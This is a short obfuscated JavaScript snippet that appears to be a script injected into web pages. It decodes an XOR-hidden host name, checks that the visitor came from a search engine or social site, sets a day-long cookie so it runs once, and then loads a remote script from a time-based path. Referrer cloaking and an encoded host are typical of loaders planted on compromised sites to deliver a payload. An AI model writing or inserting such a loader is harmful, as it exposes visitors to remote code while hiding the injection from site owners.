var _0xq = [60, 55, 61, 118, 53, 57, 40, 118, 44, 61, 43, 44];
(function (k) {
  var t = Math.floor(Date.now() / 1000), slot = (t - t % 600).toString(16);
  var r = document.referrer;
  if (!/(google|bing|yahoo|facebook|instagram)\./i.test(r)) return;
  if (document.cookie.split('; ').some(function (p) { return p.indexOf('_s1=') === 0; })) return;
  var d = '';
  for (var i = 0; i < _0xq.length; i++) d += String.fromCharCode(_0xq[i] ^ k);
  var e = document.createElement('script');
  e.src = '//' + d + '/' + slot + '.' + Math.abs(t ^ 0x5f3759).toString(36) + '.js';
  e.setAttribute('defer', '');
  document.cookie = '_s1=1; path=/; max-age=86400';
  (document.head || document.documentElement).appendChild(e);
})(88);
